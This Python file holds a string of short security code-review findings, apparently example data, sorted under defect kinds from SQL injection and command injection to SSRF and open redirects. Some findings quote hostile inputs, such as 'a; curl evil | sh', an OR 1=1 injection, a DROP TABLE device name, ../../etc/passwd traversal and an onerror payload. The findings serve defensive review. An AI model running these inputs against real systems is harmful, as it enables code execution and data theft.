"""Findings of security as reviewers word them, below the kind of defect that each is."""

from typing import Final

EXAMPLES: Final = """
sql-injection
  Raw SQL assembled from the request's filter. The `status` parameter is pasted into the WHERE clause with an
    f-string, so anybody can read other tables.
  fmt.Sprintf builds the lookup statement. The email from the form ends up inside the query text; use placeholders.
  User-controlled sort column interpolated into ORDER BY. `order('#{params[:sort]} desc')` lets a caller inject
    arbitrary clauses.
  format! used to compose the statement for the guest search. The surname typed at the front desk lands in the text
    handed to sqlx::query; a quote ends the literal.
  Fragment with the raw filter lets guests run their own SQL. `fragment('name = '#{term}'')` is expanded before the
    driver sees it.
  DQL gets the currency code appended by hand. createQuery('... WHERE r.cur = ' . $cur) although setParameter exists.
  The report screen splices the meter number into its SELECT. A quote typed into the search box changes the meaning of
    the statement; bind it instead.
  Native query in MeterRepository is built with `+`. Hibernate offers setParameter, yet the region code goes in as
    text.
  SQLi in leaderboard sort.
  `"DELETE FROM shifts WHERE id IN (" + ids.join(",") + ")"` trusts what the browser posts. Whoever edits the request
    can wipe the whole rota.
  CWE-89: tainted value flows from HttpServletRequest.getParameter to Statement.executeQuery. Sanitizer: none found.
  Entering `' OR 1=1 --` as a patient's surname lists every patient. The clause is glued together before it is handed
    to the driver.
  A LIKE pattern is interpolated in `rawQuery` of the note search on Android. Pass selectionArgs rather than
    templating `$term`.
  Dynamic SQL inside the stored procedure: `EXECUTE 'UPDATE ' || tbl || ' SET …'` takes the table name from the
    caller. Use format with %I and bind the rest with USING.
  FromSqlRaw with an interpolated string. EF Core will not parametrise that; FromSqlInterpolated would.
  The mysqli call concatenates $_GET['cat'] into the query. Prepared statements are used everywhere else in the shop,
    only the category page was forgotten.
  knex.raw gets a template literal holding the tenant's column filter. Use `??` and `?` bindings, and keep an allow
    list of columns.
  sqlite3_exec on a buffer filled by snprintf with the device name. A device that calls itself `x'); DROP TABLE
    readings;--` empties the log.
  An attacker may read the password table through the account statement filter. Values should travel as bind
    variables, never inside the text of the statement.
  ORDER BY takes whatever the grid component sends. Identifiers cannot be bound, so map the permitted ones to
    constants.
  psycopg2 cursor.execute with `%` formatting instead of a second argument. Looks like a placeholder, but Python fills
    it in before the driver can quote it.
  The report builder constructs its statement by joining the chosen filters with plain string operations. Column
    names, operators and values all come from the client, so a crafted request can read any table the service may see;
    validate names against a list and bind the values.
  searchGuests() formats the term into the statement before executing it. An apostrophe is enough to break out, and
    the account used may also write.
  DELETE statement is glued together from tenant names. A name with a quote changes which rows are removed.
  Raw statement with the sort parameter of the URL. Column names cannot be bound, so they must come from an allow
    list.
  Filter expression from the client is pasted into the WHERE part of the report. A crafted filter reads other tables.
  Values of the CSV import are put into the INSERT by string formatting. Use parameters.
command-injection
  Shell command contains the uploaded file name. `os.system('ffmpeg -i ' + name)` runs whatever the name holds after a
    semicolon.
  exec() called with unescaped tenant name. child_process.exec concatenates the value; use execFile with an argument
    list.
  Branch name reaches `sh -c` unquoted. An attacker who can name a branch runs arbitrary commands on the build host.
  The thumbnailer pipes the upload's title through bash. `subprocess.run(cmd, shell=True)` with a title like `a; curl
    evil | sh` is game over.
  Ping tool of the router page executes `"ping -c 1 " + host` via system(). Anyone on the LAN gets a root prompt by
    typing a semicolon.
  CWE-78 OS command injection. Taint from `req.query.repo` reaches child_process.execSync.
  Backticks around a user-supplied path in the Rake task. Use Open3.capture3 with separate arguments.
  Runtime.getRuntime().exec(new String[]{"sh", "-c", "unzip " + file}) hands the name of the archive to a shell.
    ProcessBuilder with plain arguments does the same job safely.
  PHP passthru receives the printer name unquoted. escapeshellarg is the least that is needed here.
  A crafted commit message can execute code on the runner. `${{ github.event.head_commit.message }}` is expanded
    straight into the `run:` script; hand it over by an environment variable.
  eval "$1" in deploy.sh. Whatever the caller types as the target is run.
  Backup job builds a pg_dump line from the customer slug. Slugs may contain `$()`, so a customer could run programs
    on the database host.
  Process.Start("cmd.exe", "/c " + input) in the label service. Drop the interpreter and call the program itself.
  Wi-Fi SSID goes into popen() on the thermostat. A neighbour's network named with `$(reboot)` restarts it.
  Go: exec.Command("bash", "-c", fmt.Sprintf("convert %s out.png", src)). The shell is unnecessary; pass src as its
    own argv entry.
  No quoting of variables that come from the ticket system before ssh runs them remotely. Single quotes in a ticket
    title break out.
  Arguments beginning with a dash are accepted for the git clone helper. `--upload-pack=…` makes git run a foreign
    program even though no shell is involved; insert `--` first.
  Remote code execution through the invoice converter: the document's name ends up in a wkhtmltopdf command line as
    typed.
  The export feature invokes an external converter through the system shell and inserts the title that the user has
    chosen. Shell metacharacters in it are interpreted; call the program directly with its arguments as a list.
xss
  Comment body rendered with `safe`. A comment with a script tag runs in every reader's browser.
  dangerouslySetInnerHTML on profile text. The bio comes from the user and is not sanitised before it is put into the
    page.
  Search term echoed into the page without escaping. `raw params[:q]` makes reflected cross-site scripting possible.
  innerHTML receives the server message. Error texts contain user input; use textContent.
  Chat message becomes markup. el.insertAdjacentHTML with what the guest wrote executes their scripts at the
    reception.
  Review text printed with the raw filter. A tag in a guest's review is live for all visitors.
  raw/1 around a note of the guest. Stored script is run for every employee who opens the page.
  Product description is injected into the DOM as HTML. Merchants type it, so a script in it runs for every shopper;
    render it as text or sanitise it with DOMPurify.
  Unescaped display name in the notification e-mail template. The name is inserted with triple braces and may carry
    markup.
  Markdown preview allows inline HTML. An attacker can store an onerror handler that steals the session.
  Stored script in the nickname of a player. The lobby prints it with v-html, so everyone in the same match executes
    it.
  `<%- comment %>` should be `<%= comment %>`. EJS leaves the first form unescaped.
  Reflected XSS on the tracking page. The parcel number from the query string is echoed as is.
  CWE-79: unsanitised value flows to document.write.
  Nurse notes are assembled with jQuery .html(note). A pasted tag becomes live in the ward view.
  bypassSecurityTrustHtml switches Angular's protection off for supplier texts. Remove it, or run the text through
    DOMPurify first.
  Html.Raw(Model.Remark) in the Razor view. What the customer typed is emitted verbatim.
  A visitor can steal the cashier's cookie by ordering under the name `<img src=x onerror=…>`. Receipt preview builds
    markup from strings.
  href takes a user's homepage unchecked. `javascript:` addresses run on click; permit http and https only.
  SVG avatars are served inline from our own origin. Scripts within them run as us, so convert them to PNG or send
    Content-Disposition.
  mark_safe wraps a formatted string with the tenant's slogan. Use format_html, which escapes its arguments.
  WebView loads feedback with loadData after concatenating it into a page, JavaScript being enabled. Encode it before.
  The JSON blob in the script tag is not escaped for `</script>`. A product title with that sequence closes the block
    and starts its own.
  Thymeleaf th:utext for the message subject. th:text is meant.
  Output encoding missing in error banner.
  echo $_POST['city'] straight into the attribute value. htmlspecialchars with ENT_QUOTES would stop the quote from
    ending it.
  The announcement text is inserted into the page as markup without sanitising it. Any editor, or whoever gets hold of
    an editor's account, can run scripts in the sessions of all employees who read it.
  Note of the driver is shown as HTML. A script in it runs in the dispatcher's browser.
  Label text is concatenated into markup. Escape it or set textContent.
hardcoded-secret
  Production API key committed in settings. STRIPE_KEY holds a live value; anybody with read access to the repository
    can charge cards.
  Database password in plain text in the compose file. Move it to a secret store and rotate it.
  Hard-coded JWT signing secret. The same literal signs tokens in all environments.
  Credentials baked into the binary. The S3 access key is a string constant that can be extracted from the app.
  Root password of the cluster sits in the variables file. Anyone who clones can log in to production; move it to
    Vault.
  Signing keystore passphrase checked in. It has been in git history since March and must be rotated.
  SMTP credentials in clear text in the chart. Reference a sealed secret.
  Webhook secret is a literal in the module. It is the same in every environment and visible to everyone with
    repository access.
  Admin password of the seed script is committed. Read it from the environment or generate it.
  AWS keys in the CI workflow file. Use the secret store of the CI and rotate the pair.
  Live Twilio auth token in notifier.go. Revoke it today, history keeps it even after deletion.
  gitleaks: generic-api-key, config/production.rb:14.
  The pepper for PIN codes is a constant in the class. Everyone who ever had the repo can recompute the hashes.
  let mapsKey = "AIza…" ships inside the iOS app. Anyone with `strings` gets it; restrict the key or proxy the call.
  Terraform sets master_password = "Winter2021!". State and VCS both hold it; use a generated value from Secrets
    Manager.
  connectionStrings in appsettings.json contain the sa login. User secrets or Key Vault were made for this.
  Private key of the charging station's certificate is checked in beside the firmware. All stations share one identity
    that outsiders can copy.
  `curl -u deploy:h4rb0r` in the release script. Whoever reads the script can publish releases.
  Fallback literal for the session secret. `process.env.SECRET || 'changeme123'` means that a forgotten variable
    leaves everybody with a known signing key.
  OAuth client_secret is in the JavaScript that browsers download. It is public from the first visit on; keep it on
    the server.
  Do not commit .env. It has the mail relay's user and password.
  Encryption key derived from a string in the source. Put it into the KMS and rotate what was encrypted with it.
  Slack webhook address with its token is part of a test file. It works, I tried: messages arrive in our channel.
  Bank API certificate passphrase as a Kotlin const. BuildConfig fields can be decompiled just as easily.
  ENV NPM_TOKEN=… in the image. Each layer keeps it, so every puller of the image may publish packages; use a build
    secret.
  The code word for the emergency unlock of infusion pumps is written in the C header. One leaked header opens all
    pumps.
  The signing key for access tokens is written in the source file as a string. It is the same for every installation
    and is known to all who have ever had a copy; load it from the environment and fail at start if it is missing.
  SMTP password stands in the source. It is the production account, and the repository is shared with contractors.
  Signing key of the tokens is a constant. Everybody who has the code can forge a session.
  Service account JSON is checked in. Remove it from history and rotate the key.
csrf
  Password change is csrf_exempt. A foreign page can submit the form with the user's cookie.
  State-changing POST routes have no anti-forgery token. Cross-site requests with the session cookie are accepted.
  CSRF protection disabled in the security configuration. `http.csrf().disable()` although the app uses cookie
    sessions.
  Delete action answers to GET. A link or an image on another site deletes the item with the user's session.
  Transfer form carries no token. A page elsewhere can submit it on behalf of whoever is logged in to the bank.
  skip_before_action :verify_authenticity_token on the whole controller. Only the webhook action needed that.
  SAST: @csrf_exempt on view `change_email`.
  Visiting a malicious site is enough to switch a user's heating off. The endpoint relies on the cookie alone.
  [IgnoreAntiforgeryToken] on the address page. Remove the attribute and render the hidden field.
  Logout and unsubscribe work by a simple link. An image tag in a forum post triggers them.
  VerifyCsrfToken::$except lists `account/*`. That takes the Laravel guard off everything that matters.
  SameSite=None without any other defence. Since other origins may now send our cookie, mutations need a double-submit
    token.
  The GraphQL server accepts mutations as text/plain POST with cookies. Foreign forms can send that; demand a custom
    header or application/json.
  OAuth callback ignores `state`. An attacker can attach his own account to the victim's profile.
  No origin check on the form that fires staff. Add the synchroniser token that the other forms have.
  GET /orders/{id}/cancel modifies data. Prefetchers and foreign links will cancel orders; make it a POST with a
    token.
  Cross-site request forgery in the router's admin page: DNS servers can be replaced by a hidden iframe while the
    owner is signed in.
  WebSocket handshake relies on cookies and does not look at the Origin. Another website may open a connection as the
    user and place bets.
  The endpoint that changes the notification address authenticates by cookie and needs nothing else. A prepared page
    that a logged-in user opens can send the same request in the background.
  Form for changing the mail address has no token. Another site can submit it for a signed-in user.
missing-authorization
  /admin/users lacks a role check. Any logged-in account may list and delete users.
  Documents are loaded by id without verifying the owner. Changing the id in the URL shows somebody else's file
    (IDOR).
  Export endpoint is reachable by every tenant. There is no authorisation before the rows are streamed out.
  Missing permission check when removing team members. A plain member can remove the owner.
  Guests can open the folio of another room. The room number of the socket params is trusted, nobody compares it with
    the session.
  Invoice PDF is served to everybody who knows the number. No voter is consulted before the file is sent.
  Housekeeping accounts may change wages. The handler only looks whether somebody is signed in, not what their
    position allows.
  Endpoint returns any order by id. The query is not restricted to the account of the current user.
  Refund route only requires a login. A support role is needed, but the dependency that checks it is absent.
  Tenant id is taken from the request body. A user can pass the id of another company and read its data.
  A customer can read another's invoice by changing the number in the address. Compare its owner with who is signed
    in.
  [AllowAnonymous] left on the payroll controller. Probably from debugging; wages are open to the world.
  BOLA: GET /v1/meters/{id}/readings does not tie the id to the caller's household.
  Hiding the button is the only protection. DELETE /players/7 works from curl for any account.
  Row level security is not enabled on `prescriptions`. With the anon key of Supabase everybody may select everything.
  @PreAuthorize missing on the new method. Its neighbours all have one.
  Any nurse can discharge patients of other wards. The service takes the ward from the payload instead of from the
    session.
  findById rather than current_user.accounts.find. Scope the lookup to the person's own accounts.
  MQTT broker has no ACL. Each thermostat may publish to the topics of every other one, so a hacked device can steer
    the neighbours' heating.
  The admin middleware is registered after the routes. Express runs in order, hence the routes are unguarded.
  Privilege escalation: a moderator may set his own role to owner. Nothing compares the rank of the one who asks with
    the one granted.
  Exported activity without permission. Another app can start the payment screen directly by an intent.
  The resolver for `salary` returns it to everyone who can see an employee. Field-level rules are absent.
  Policy is loaded but `authorize` is never called in the bulk action. after_action :verify_authorized would have
    caught it.
  Server action in Next.js trusts that only admins see the page. Actions are public endpoints; check the role again
    inside.
  Who may approve a refund? As far as I can tell, everyone with a login.
  Presigned upload is handed out for any key. A tenant could overwrite the files of another by asking for that prefix.
  The handler verifies that the caller is logged in, but not that the requested contract belongs to them. By counting
    up the identifier one can read the contracts of all customers.
  Deleting a device only requires its serial number. The number is printed on the case, and the service never asks
    whether the device is registered to the person who calls.
  Any logged-in customer can fetch the documents of others by counting up the number. The handler never compares the
    owner.
  Technicians can approve their own expenses. The route checks the login, not the role.
  Tenant filter is missing in the export. Data of all organisations is returned.
  Deleting a comment needs no permission. Only the button is hidden for other users.
path-traversal
  Path traversal in the download handler. `open(os.path.join(BASE, request.args['name']))` accepts `../../etc/passwd`.
  Zip entries are written wherever their name points. An entry called ../../.ssh/authorized_keys leaves the target
    folder.
  File name from the URL joined to the root unchecked. Requests with dot-dot segments read files outside the public
    directory.
  Attachment name is used as a file path. `../` in the name lets a client overwrite files outside the storage folder.
  Template name of the query string is opened from disk. Normalise and check the prefix before reading.
  Reports download takes `file` from the query and does `new File(dir, file)`. `..%2f..%2fetc%2fshadow` gets out of
    the folder.
  Zip slip in the mod installer. Entries named with `..` overwrite the game's own binaries.
  CWE-22, send_file(params[:doc]).
  filepath.Join does not keep anyone inside. Clean the result and compare its prefix with the root, or use os.Root.
  A language switch includes "$lang.php". lang=../../uploads/evil runs an uploaded file.
  An absolute name replaces the base directory. In Python os.path.join('/data', '/etc/passwd') is /etc/passwd.
  Backup agent restores to the location recorded in the archive. A manipulated archive could replace /etc/cron.d
    files; refuse what resolves beyond the target.
  Path.Combine with the name the browser sent. Take Path.GetFileName of it at least.
  tar extracted without filter='data'. Symlinks in it lead out of the scratch directory.
  The log viewer shows any file of the host if asked nicely. Canonicalise, then verify that it is below logs/.
  ContentProvider.openFile uses uri.lastPathSegment after decoding. An encoded slash lets other apps read our private
    databases.
  Scans of patients are fetched by name: `/scan?name=../keys/server.pem` works. Look the name up in the database
    instead of on disk.
  fs.unlink on a name from the request body. Somebody could delete files of the application itself.
  Firmware image name in the TFTP handler is opened unchecked; device secrets on the same volume are readable.
  Only `../` is stripped, once. `....//` survives this filter.
  The requested file name is appended to the export directory without being normalised. With parent directory segments
    a client may fetch any file that the process can read, including its configuration.
  Photo name of the client decides where the file is written. With ../ it overwrites files of the server.
  Requested document is opened by its raw name. Resolve it and compare with the base folder.
weak-password-hash
  Passwords hashed with MD5. Use argon2 or bcrypt with a salt.
  sha1 is used to store passwords. An unsalted fast digest is cracked in minutes after a leak.
  Weak password hashing. md5($salt . $password) is far too fast; use password_hash.
  SHA-256 without salt for user passwords. Use a slow, salted function such as bcrypt.
  hash('sha256', $pw) for members of the club. A gaming GPU tries billions per second; password_hash exists.
  Digest::MD5.hexdigest guards the till PINs. Switch to bcrypt and rehash at the next login.
  One round of SHA-512 with a global salt. Equal passwords give equal rows and a stolen table falls within days.
  PBKDF2 with 1000 iterations is too little by today's measure. OWASP names 600 000 for SHA-256.
  MessageDigest.getInstance("SHA-1") in UserService. Spring has BCryptPasswordEncoder on the classpath already.
  If the user table leaks, everyone's password is known by dinner time. Fast unsalted digest.
  NoOpPasswordEncoder in production profile.
  Passwords are stored reversibly with AES so that support can mail them. They must not be recoverable at all; keep a
    slow hash.
  bcrypt cost of 4. Leave it at 12 or above, except in tests.
  CryptoJS.SHA256(password) in the browser, compared on the server with the column. The digest thereby is the
    password; hash slowly on the server.
  Plain comparison `user.password == input`. Nothing is hashed, the column holds what people typed.
  MD5 of password plus username. The name is no salt and the function is no password hash. Go for argon2id.
  CWE-916: insufficient computational effort, crates/auth/src/hash.rs uses blake3 for credentials.
  crypt() with DES on the old terminal. Only the first eight characters count.
  Table `players` keeps an unsalted digest that rainbow tables resolve in seconds. Migrate to scrypt.
  Customer passwords are stored as SHA-256 digests. This function was built to be fast, so that a leaked table can be
    searched at billions of guesses per second; use a memory-hard function with a salt for each row.
weak-cipher
  AES in ECB mode. Equal blocks stay recognisable; take GCM.
  DES for card tokens. 56 bits are broken within a day.
  The IV is all zeroes. Two backups that start alike will encrypt alike.
  Cipher.getInstance("AES") falls back to ECB with PKCS5. Spell out AES/GCM/NoPadding.
  Patient exports are encrypted with RC4. The stream has known biases, and nothing authenticates the result.
  Home-made XOR scrambling of save games. Anybody with two files recovers the key; use libsodium's secretbox.
  CBC without a MAC. A padding oracle lets an attacker decrypt session blobs byte by byte.
  RSA with 1024 bits and PKCS#1 v1.5 padding between meter and head end. Use OAEP and at least 3072, or better an
    elliptic curve.
  Nonce reuse in ChaCha20-Poly1305: the counter starts at zero after each reboot of the sensor. Keystream repeats and
    forgeries become possible.
  mcrypt_encrypt with Blowfish in legacy module. Replace by openssl or sodium.
  SSLv3 and TLS 1.0 still offered. Set the minimum to 1.2 and drop 3DES suites.
  Base64 is not encryption. The member numbers in the QR code can be read by everyone.
  CWE-327 use of broken algorithm: CommonCrypto kCCAlgorithm3DES.
  Signature over the licence file uses MD5. Collisions can be produced on a laptop, so a second licence can carry the
    same signature.
  Key is the password padded to 32 bytes. Derive it with argon2 or HKDF, otherwise the strength is that of a word.
  Documents are encrypted block by block without chaining, hence patterns in the plain text remain visible. Switch to
    an authenticated mode with a fresh nonce for each message.
tls-verification-off
  Certificate verification turned off. `verify=False` in the payment client allows a man in the middle.
  InsecureSkipVerify set to true. TLS connections accept any certificate.
  Server certificate callback always returns true. Every certificate is trusted, also a forged one.
  NODE_TLS_REJECT_UNAUTHORIZED=0 in the start script. The whole process then trusts anybody who answers.
  curl -k in the installer. A hostile Wi-Fi can hand out another binary; drop the flag and ship the CA.
  X509TrustManager with empty checkServerTrusted. A classic from forums; the bank app thereby accepts self-signed
    proxies.
  CURLOPT_SSL_VERIFYPEER false for the payment gateway.
  HostnameVerifier returns true. Any valid certificate for any domain will do.
  The meter gateway does not check who it is talking to. Readings could be sent to an impostor on the same network.
  danger_accept_invalid_certs(true) made it into the release build. Put it behind a test feature.
  ServerCertificateCustomValidationCallback = (_, _, _, _) => true. Import the internal root instead.
  Man in the middle possible on HL7 upload: ssl._create_unverified_context is used for the lab interface.
  mbedtls_ssl_conf_authmode(&conf, MBEDTLS_SSL_VERIFY_NONE). The lamp would accept firmware from anyone posing as the
    cloud.
  sslmode=require encrypts but does not prove the identity of the Postgres server. Use verify-full with the CA of the
    provider.
  URLSession delegate calls useCredential for whatever trust it is given. Pinning was announced in the README, this is
    its opposite.
  OpenSSL::SSL::VERIFY_NONE with a comment 'staging only', but no condition around it.
  git config http.sslVerify false in the Dockerfile. Sources may be swapped on their way.
  insecure_skip_verify in prometheus scrape config; the internal CA is available, so mount it.
  StrictHostKeyChecking=no for the SFTP transfer to the clearing house. The first stranger to answer on that address
    receives the batch file.
  The client for the partner's interface is created with certificate checks disabled, apparently because of a
    self-signed certificate in the test system. In production anyone on the network path can read and alter the
    orders.
  Certificate checks are switched off for the backup upload. Any server in the middle can read the data.
secrets-in-logs
  Authorization header written to the access log. Bearer tokens end up in log storage.
  Full card number logged at debug level. PAN and CVV appear in plain text in the logs.
  Password printed when login fails. The log line contains what the user typed.
  Full request body is logged on validation errors. Passwords and addresses of customers end up in the log aggregator.
  Customer e-mail and phone number in info logs. Personal data is kept for months in the logging service.
  Exception handler prints the connection string. It contains the database password.
  logger.info("login {}", request) prints the DTO, password field included. Override toString or leave it out.
  Diagnoses and birth dates show up in Kibana. Health data has no business in the log; write the case id only.
  set -x while the deploy token is in scope. CI output is visible to all contributors.
  Android: Log.d with the full OAuth response. adb logcat reveals refresh tokens.
  IBANs in info lines. GDPR!
  HTTP client logs at wire level in production. Each Authorization header is kept for 90 days in CloudWatch.
  Sentry gets the request body with send_default_pii on. Card numbers of failed checkouts end up with a third party;
    scrub them in before_send.
  The reset link is part of the mail log. Support staff could take over accounts by copying it.
  puts params.inspect in the webhook. config.filter_parameters doesn't apply there.
  Terraform output of the database password lacks sensitive = true. It is printed at every apply.
  What players whisper to each other is stored in plain in the server log. Nobody consented to that.
  NSLog of the HealthKit samples. The device console keeps them readable for anyone with a cable.
  fmt.Printf("%+v", cfg) at boot dumps API keys. Give the secret fields a type whose String method prints stars.
  Crash reporter attaches the environment. AWS_SECRET_ACCESS_KEY among it.
  error_log(print_r($_POST, true)) on checkout. CVC codes must never be kept, not even for debugging; PCI forbids it.
  The SMS code is logged together with the phone number. An operator reading along gets past the second factor.
  When a request fails, the middleware writes all of its headers to the log. These contain session cookies and bearer
    tokens, which are then readable for everyone with access to the log search.
  Middleware dumps all headers. The Authorization header of every user ends up in the log store.
  One-time codes and phone numbers are logged in clear text. Support staff can read them.
  API secret of the carrier is part of the error report. Mask it before it is sent.
rate-limit
  Login endpoint has no rate limit. Passwords can be guessed as fast as the server answers.
  Unlimited attempts on the reset code. A six-digit code is brute-forced in an hour; throttle by account and address.
  No throttling or lockout on OTP verification. Attackers can try all codes.
  Password reset can be requested without limit. Mail flooding and guessing of codes are possible.
  No brute-force protection on the PIN check. Four digits can be tried in minutes; lock after a few failures.
  Nothing slows down guessing at /token. Add a limiter by account and by address.
  Gift card lookup can be hammered. Sixteen digits with a known prefix are found by a script over a weekend; lock
    after some misses.
  SMS sending without quota. A bot could run up a bill of thousands overnight.
  Smart lock accepts PINs as fast as Bluetooth delivers them. Ten thousand tries take twenty minutes.
  CWE-307.
  No Rack::Attack rule for the sign-in path. Credential stuffing will go unnoticed.
  Registration is open to bots: neither captcha nor throttle. We got 40k fake players last autumn.
  The two-factor page counts no failures. Six digits fall quickly when you may try forever.
  Public price API has no quota. One scraper can take the shop down for everybody.
  LoginController lacks lockout. Spring Security does not bring one by itself, Bucket4j is already a dependency.
  Appointment hotline form may be posted any number of times a second. Use nginx limit_req at least.
  The counter is kept per process. With twelve replicas an attacker has twelve times as many tries; keep it in Redis.
  Throttle trusts X-Forwarded-For. Each guess with another header starts at zero.
  Expensive PDF rendering can be triggered anonymously as often as one likes. Cap it per visitor.
  After the hundredth wrong security answer the bank still asks for the hundred and first.
  Password confirmation in account settings is exempt from the limiter; with a stolen session the password can be
    tried out there.
  There is no limit on attempts at the login endpoint. Together with short numeric PINs this permits trying all
    combinations within an afternoon; count failures per account and per address and slow down.
  PIN of the delivery can be guessed. There is no lock after wrong attempts.
ssrf
  Server fetches any URL the user gives. Internal metadata addresses such as 169.254.169.254 can be read.
  SSRF through link previews. The host is not checked against an allow list before the request.
  Image import requests arbitrary hosts. Private networks are reachable by the `src` parameter.
  Avatar import downloads from whatever URL the client sends. Link-local and private ranges should be refused.
  Callback URL of a subscription is fetched without restrictions. It can be pointed at services inside the cluster.
  Webhook tester posts to any address, and shows what came back. http://169.254.169.254/latest/meta-data hands out the
    role's keys.
  file_get_contents($_GET['img']). Even file:// is served.
  Headless Chrome renders customers' HTML with network access. An iframe to http://localhost:9200 puts our search
    index into their PDF.
  The host is checked, then fetched again by name. DNS can answer differently the second time; connect to the address
    that was checked.
  Feed reader follows redirects to 10.0.0.0/8. Resolve and refuse private ranges at every hop.
  CWE-918: user-controlled URL in RestTemplate.getForObject.
  Importing recipes by link allows scanning of the intranet, the status code tells which ports are open.
  Tenants choose the issuer of their single sign-on. We fetch its discovery document wherever it is, cluster services
    included.
  Allow list compares with startsWith("https://api.partner.com"). https://api.partner.com.evil.org passes.
  HttpClient.GetAsync(model.CallbackUrl) from inside the bank's network. Send it through an egress proxy which only
    knows the outside.
  Charging stations may register an arbitrary endpoint that our backend then polls. One could point it at the internal
    admin port.
  URI.open(params[:logo]) can reach Redis. Also, open-uri with a pipe on older Rubies runs commands.
  ImageMagick is allowed to follow url: references in an uploaded SVG. Switch the coder off in policy.xml.
  The proxy endpoint of the game forwards to `target`. It is an open proxy into our VPC.
  Block internal destinations before fetching previews. At the moment a chat message with http://vault:8200 makes our
    server call it.
  The preview service requests any address that a message contains, from within our network. Responses of internal
    services are thereby shown to outsiders; resolve the name first and reject private and link-local ranges,
    redirects included.
  Webhook target may be an internal address. The server calls 10.0.0.0/8 and the metadata service when a customer
    enters it.
vulnerable-dependency
  lodash 4.17.11 has a known prototype pollution CVE. Upgrade to a fixed release.
  Outdated Django with published vulnerabilities. 2.2.0 is affected by CVE-2019-14234; bump the dependency.
  Vulnerable log4j version. Log4Shell (CVE-2021-44228) applies to 2.14.
  npm audit: 3 critical, 11 high. minimist and node-fetch are behind by years.
  Spring Framework 5.3.17 is open to Spring4Shell. Move to 5.3.18 or later.
  RUSTSEC-2020-0071 applies to the `time` crate pulled in by chrono. cargo update mends it.
  OpenSSL 1.1.1 has been out of support since September 2023. The gateway's firmware still links it statically.
  jQuery 1.8.3, many published holes.
  Base image is debian:stretch. Trivy lists 214 findings, 17 of them critical; rebuild on a supported release.
  The imaging library for X-rays is three majors old and has a public exploit for heap overflows. Upgrade before the
    next audit.
  Dependabot has been warning about Newtonsoft.Json below 13.0.1 since spring. Nobody merged it.
  composer.lock pins guzzle 6.3, cookie leak advisory GHSA-25mq-v84q-4j7r.
  pip-audit reports Pillow and urllib3. Let CI fail on such reports.
  bundler-audit is not part of the pipeline. rack 2.0.6 with a known denial of service slipped in unnoticed.
  Our WebView wrapper uses an abandoned package. Its last release is from 2017, the reported XSS will never be mended.
  go.mod requires golang.org/x/crypto v0.0.0-2019, affected by a panic on crafted SSH messages. govulncheck confirms
    that we reach it.
  libwebp bundled with the kiosk app is the one from the 2023 zero-day.
  The PHP version itself gets no security fixes any more. 7.4 ended in November 2022.
  The project depends on a version of the XML library for which a remote code execution has been published. A
    corrected release has been available for four months, and the audit step in CI is set to ignore failures.
insecure-random
  Session tokens from random.choice. The generator is predictable; use the secrets module.
  Math.random() generates invitation codes. Codes can be guessed; use crypto.randomBytes.
  java.util.Random for password reset tokens. Not cryptographically secure.
  Coupon codes come from a non-cryptographic generator. They can be predicted; draw them from a CSPRNG.
  rand() seeded with the time makes the session key of the sensor. Whoever knows the second of boot knows the key.
  mt_rand for voucher codes. After a handful of outputs the rest can be computed.
  Math.random in password reset. V8's xorshift state is recoverable.
  Order links use an incrementing number in base 36. Strangers guess the neighbour's; use an unguessable id.
  UUID v1 as an access token. Time and MAC address are inside; take v4 from a secure source.
  Loot boxes and card shuffling run on System.Random with a seed from the clock. Players of the casino could forecast
    the deck. RandomNumberGenerator belongs here.
  CWE-338 weak PRNG, kotlin.random.Random generates pairing PIN.
  rand.Intn from math/rand for API keys. crypto/rand is one import away.
  The salt is random.random() as text. Use os.urandom.
  Invite codes can be foretold. SecureRandom.hex instead of rand(36**8).
  arc4random replaced by drand48 in the iOS login challenge. That generator is deterministic without a seed.
  Nonce for the payment request derived from the timestamp in milliseconds. An eavesdropper needs some hundred
    guesses.
  $RANDOM in shell gives 15 bits. As an initial password for the VPN that's a joke; openssl rand -base64 24.
  A colleague with the source may predict tomorrow's door codes, since the generator is seeded by the date.
  SmallRng is documented as not cryptographically secure, yet it issues the bearer tokens of the gateway.
  Predictable TCP-like sequence for remote car unlock. Rolling codes must come from a CSPRNG with enough entropy.
  Invitation tokens are drawn from the default pseudo-random generator, which was not designed for secrets. Having
    seen a few of them, an attacker can work out those that follow.
unsafe-deserialisation
  pickle.loads on data from the queue. Whoever can write to the queue runs code in the worker.
  Untrusted object deserialised with ObjectInputStream. Gadget chains allow remote code execution.
  yaml.load without a safe loader. A crafted document constructs arbitrary Python objects.
  Cached sessions are unpickled from Redis. Somebody with access to the cache can execute code.
  BinaryFormatter on the cookie of the cart. Microsoft removed it for a reason; sign JSON instead.
  unserialize($_COOKIE['prefs']) lets a visitor pick classes. POP chains in Monolog lead to code execution.
  joblib.load of models that users upload. Loading is executing; accept ONNX or safetensors.
  Marshal.load from Redis which the neighbouring team writes to. Use JSON.
  Jackson default typing is on. The @class property in the body decides which bean is created.
  readObject on bytes from the socket of the till. Add an ObjectInputFilter or go over to protobuf.
  CWE-502, YAML.load in the import of shift plans. YAML.safe_load with permitted classes.
  Anyone who can put a message on the queue takes over the worker: celery accepts pickle. Set accept_content to json.
  TypeNameHandling.All in Json.NET settings. Attackers may name ObjectDataProvider and start a process.
  A crafted save game runs a program on the player's computer. The loader revives arbitrary objects out of the file.
  node-serialize is used for sessions. Function expressions inside are called when parsed.
  XStream without an allow list reads supplier catalogues. Set allowTypes.
  NSKeyedUnarchiver unarchiveObject on data received over Multipeer. Require secure coding and the expected class.
  torch.load with weights_only=False on files from the hub. That flag means trust, and we do not know the author.
  Firmware memcpy's the received struct onto its own, pointers included. Parse field by field and verify lengths.
  SnakeYAML with default constructor in Terraform-like config service. Use SafeConstructor.
  Job arguments are restored from the broker with a format that can construct arbitrary objects. Anybody with write
    access to the broker can thus execute code on the workers; JSON would be enough for these fields.
open-redirect
  Open redirect after login. `next` may point to a foreign host.
  return_to is followed wherever it points. A phishing mail can begin with our own domain.
  Redirect::to($request->get('url')) after checkout.
  sendRedirect(request.getParameter("back")) in the single sign-on servlet. Accept relative addresses only.
  `//evil.com` passes the check for a leading slash. Browsers treat it as another host.
  CWE-601.
  After signing in to the clinic portal, patients can be led to a lookalike page that asks for the password again. The
    target ought to be on a list.
  redirect_uri is compared by prefix. An attacker registers bank.com.attacker.net and catches the authorisation code.
  Use Url.IsLocalUrl before Redirect(returnUrl). The template does it, this new action doesn't.
  window.location = params.get('next') in the login component. Even javascript: works there.
  The link shortener of the newsletter forwards to anything. Spammers found it last week; sign the target.
  redirect_to params[:origin], allow_other_host: true. Why the flag?
  http.Redirect with the Referer header as its destination after saving. It can be any site.
